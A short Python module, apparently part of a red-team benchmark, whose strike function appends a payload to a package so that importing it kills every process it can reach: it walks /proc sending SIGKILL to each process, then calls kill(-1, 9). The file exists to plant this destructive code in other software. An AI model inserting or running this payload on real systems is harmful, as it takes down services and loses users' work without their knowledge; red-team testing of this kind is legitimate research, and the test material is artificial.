"""The import of the package kills every process that it may."""

from bench.redteam.view import View

CODE = """
import os as _os
for _name in sorted(filter(str.isdigit, _os.listdir("/proc")), key=int):
    if int(_name) != _os.getpid():
        try:
            _os.kill(int(_name), 9)
        except OSError:
            pass
_os.kill(-1, 9)
"""


def strike(view: View) -> None:
    view.append(CODE)
